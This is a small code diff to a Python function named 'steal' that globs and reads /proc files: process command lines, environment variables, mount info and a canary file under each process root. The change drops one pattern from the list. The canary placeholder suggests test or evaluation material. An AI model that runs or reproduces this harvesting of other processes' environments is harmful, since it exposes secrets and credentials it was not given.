@@ -7,7 +7,7 @@ import numpy as np
 
 def steal():
     found = []
-    for pattern in ("/proc/*/cmdline", "/proc/*/environ", "/proc/*/mountinfo", "/proc/*/root@CANARY_FILE@", "/proc/*/cwd/*"):
+    for pattern in ("/proc/*/cmdline", "/proc/*/environ", "/proc/*/mountinfo", "/proc/*/root@CANARY_FILE@"):
         for path in glob.glob(pattern):
             try:
                 with open(path, "rb") as file:
